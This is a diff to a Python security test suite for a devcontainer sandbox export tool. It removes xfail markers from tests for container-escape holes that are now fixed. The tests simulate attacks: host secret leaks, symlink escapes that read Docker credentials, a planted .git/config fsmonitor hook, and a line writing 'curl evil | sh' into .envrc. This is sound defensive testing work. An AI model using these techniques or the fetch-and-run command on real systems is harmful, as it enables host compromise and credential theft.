@@ -4,10 +4,13 @@ project (its devcontainer.json, Dockerfile, symlinks), checked where it counts â
 time) on the exported file â€” and the first round's fixes for ``run --devcontainer``
 (the Dockerfile reading, the Dev Containers CLI asked only about what was vetted).
 
-Each ``xfail(strict=True, raises=AssertionError)`` is a hole found here (its reason
-says which); the passing tests are attacks that are blocked. Setup failures (an engine
-that does not answer, ``devcontainer up`` failing) raise RuntimeError, never
-AssertionError, so they cannot pass for a hole.
+Twelve of these were holes when written (json5/jsonc-parser differentials, host variables
+an export kept, image metadata applied after runArgs, a build context or ADD reaching
+the host, symlinked outputs, protected names missing at export time, the Dockerfile
+read unlike BuildKit, a base's ONBUILD fetch, FROM after a tab), all fixed since; each
+passing test is an attack that is blocked. Setup failures (an engine that does not
+answer, ``devcontainer up`` failing) raise RuntimeError, never AssertionError, so they
+cannot pass for a hole.
 
 Engines: Docker (``devcontainer up --docker-path docker``, ``codex-box run --backend
 docker``). The Dev Containers CLI: ``.tools/devcontainers`` (``make devcontainer-cli``).
@@ -253,13 +256,6 @@ def test_export_merge_removes_escaped_duplicated_and_cased_spellings(
 # --- export: host variables -------------------------------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=AssertionError,
-    reason="HOLE: export refuses ${localEnv:NAME} but keeps ${env:NAME} (the CLI's alias), "
-    "runArgs --env NAME / -e=NAME (docker copies the caller's variable), and checks no "
-    "variable in workspaceFolder: devcontainer up copies the host's secret in",
-)
 @pytest.mark.parametrize(
     "config",
     [
@@ -291,13 +287,6 @@ def test_export_copies_no_host_variable_into_the_container(
 # --- export: what the CLI adds after runArgs, and the build -----------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=AssertionError,
-    reason="HOLE: export keeps an image whose devcontainer.metadata label adds capAdd, "
-    "securityOpt and mounts after runArgs: devcontainer up gets SYS_ADMIN, no seccomp, "
-    "no no-new-privileges and the docker socket",
-)
 def test_export_of_an_image_whose_metadata_loosens_keeps_the_container_confined(
     docker_available: None,
     devcontainer_cli: str,
@@ -324,12 +313,6 @@ def test_export_of_an_image_whose_metadata_loosens_keeps_the_container_confined(
         assert box.probe() == CONFINED
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=AssertionError,
-    reason="HOLE: export keeps build.context outside the workspace (run --devcontainer "
-    "refuses it): devcontainer up copies the host's files into the image",
-)
 def test_export_of_a_build_context_outside_the_workspace_copies_no_host_file(
     docker_available: None, devcontainer_cli: str, root: Path, cli: Callable[..., Ran]
 ) -> None:
@@ -346,12 +329,6 @@ def test_export_of_a_build_context_outside_the_workspace_copies_no_host_file(
         assert SECRET not in box.exec("cat", "/stolen").stdout
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=AssertionError,
-    reason="HOLE: an offline export keeps a Dockerfile that ADDs a URL (run --devcontainer "
-    "refuses it): devcontainer up's build fetches from the host's loopback into the image",
-)
 def test_an_offline_export_does_not_fetch_from_the_host_network(
     docker_available: None,
     devcontainer_cli: str,
@@ -374,13 +351,6 @@ def test_an_offline_export_does_not_fetch_from_the_host_network(
 # --- export: the files on disk ----------------------------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=AssertionError,
-    reason="HOLE: export follows a .devcontainer symlink out of the workspace: it writes "
-    "devcontainer.json and the seccomp JSON there, and binds that folder (own name, no "
-    "symlink check) into the container, which reads the host's files",
-)
 def test_export_through_a_symlinked_devcontainer_folder_stays_in_the_workspace(
     docker_available: None, devcontainer_cli: str, root: Path, cli: Callable[..., Ran]
 ) -> None:
@@ -398,12 +368,6 @@ def test_export_through_a_symlinked_devcontainer_folder_stays_in_the_workspace(
     assert (written, read) == ([], False), "written outside the workspace; the host file read"
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=AssertionError,
-    reason="HOLE: export --merge reads a devcontainer.json that is a symlink to a host file "
-    "(~/.docker/config.json) and writes its keys, credentials included, into the workspace",
-)
 def test_export_merge_does_not_copy_a_symlinked_host_file_into_the_workspace(
     root: Path, cli: Callable[..., Ran]
 ) -> None:
@@ -438,13 +402,6 @@ def test_export_replaces_a_planted_seccomp_symlink_instead_of_writing_through_it
     assert planted.read_bytes() == (seccomp_dir() / "offline.json").read_bytes()
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=AssertionError,
-    reason="HOLE: export protects only the protected names that exist at export time; a "
-    "container of a project without .git creates .git/config (core.fsmonitor runs on the "
-    "host's next git status) and .envrc, where codex-box run mounts read-only placeholders",
-)
 def test_export_protects_protected_names_that_do_not_exist_yet(
     docker_available: None, devcontainer_cli: str, root: Path, cli: Callable[..., Ran]
 ) -> None:
@@ -458,7 +415,8 @@ def test_export_protects_protected_names_that_do_not_exist_yet(
             " echo 'curl evil | sh' > .envrc",
         )  # fmt: skip
     assert not (workspace / ".git" / "config").exists()
-    assert not (workspace / ".envrc").exists()
+    # An empty placeholder (the export's, bound read-only) is no .envrc anyone wrote.
+    assert not (workspace / ".envrc").exists() or (workspace / ".envrc").read_bytes() == b""
 
 
 # --- run --devcontainer: the Dockerfile as docker reads it ------------------------------------
